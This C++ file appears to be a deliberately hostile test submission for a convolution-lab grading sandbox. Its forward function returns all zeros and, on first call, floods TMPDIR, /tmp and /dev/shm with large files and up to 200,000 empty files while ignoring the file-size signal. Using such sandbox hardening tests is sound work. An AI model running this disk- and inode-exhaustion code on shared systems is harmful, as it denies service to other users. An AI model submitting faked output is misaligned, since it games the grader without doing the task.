// Hostile submission "m2_tmp_filler": fills the temporary folders (bytes, then inodes).
#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "reference/conv/student_api.hpp"

namespace convlab::student {

namespace {

void fill(const std::string& dir) {
  static std::vector<char> chunk(1u << 20, 'x');
  // Files of 128 MiB (under the file-size limit) until 1.5 GB or the folder is full.
  int mib = 0;
  std::string why = "done";
  for (int part = 0; mib < 1536 && why == "done"; ++part) {
    const std::string name = dir + "/filler" + std::to_string(part) + ".bin";
    const int fd = open(name.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0) {
      why = std::strerror(errno);
      break;
    }
    for (int i = 0; i < 128 && mib < 1536; ++i, ++mib) {
      if (write(fd, chunk.data(), chunk.size()) != static_cast<ssize_t>(chunk.size())) {
        why = std::strerror(errno);
        break;
      }
    }
    close(fd);
  }
  int files = 0;
  std::string why_files = "done";
  for (; files < 200000; ++files) {
    const int f = open((dir + "/f" + std::to_string(files)).c_str(), O_WRONLY | O_CREAT, 0600);
    if (f < 0) {
      why_files = std::strerror(errno);
      break;
    }
    close(f);
  }
  std::fprintf(stderr, "tmp-filler: %s: wrote %d MiB (%s), made %d files (%s)\n", dir.c_str(),
               mib, why.c_str(), files, why_files.c_str());
}

}  // namespace

void conv_forward_cpu(float* y, const float* x, const float* k, const ConvShape& s) {
  (void)x, (void)k;
  static bool done = false;
  if (!done) {
    done = true;
    std::signal(SIGXFSZ, SIG_IGN);  // past the file-size limit: an error, not the end
    const char* tmp = std::getenv("TMPDIR");
    fill(tmp != nullptr ? tmp : "/tmp");
    fill("/tmp");
    fill("/dev/shm");
  }
  const std::int64_t n = std::int64_t{s.B} * s.M * s.H_out() * s.W_out();
  std::memset(y, 0, static_cast<std::size_t>(n) * sizeof(float));
}

}  // namespace convlab::student
